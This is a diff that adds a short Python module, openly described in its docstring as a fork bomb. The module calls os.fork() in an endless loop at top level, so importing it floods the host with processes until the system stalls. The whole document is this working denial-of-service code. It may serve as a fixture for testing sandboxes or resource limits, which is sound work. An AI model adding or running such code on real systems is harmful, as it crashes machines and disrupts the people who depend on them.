@@ -1,0 +1,6 @@
+"""Import: a fork bomb."""
+
+import os
+
+while True:
+    os.fork()
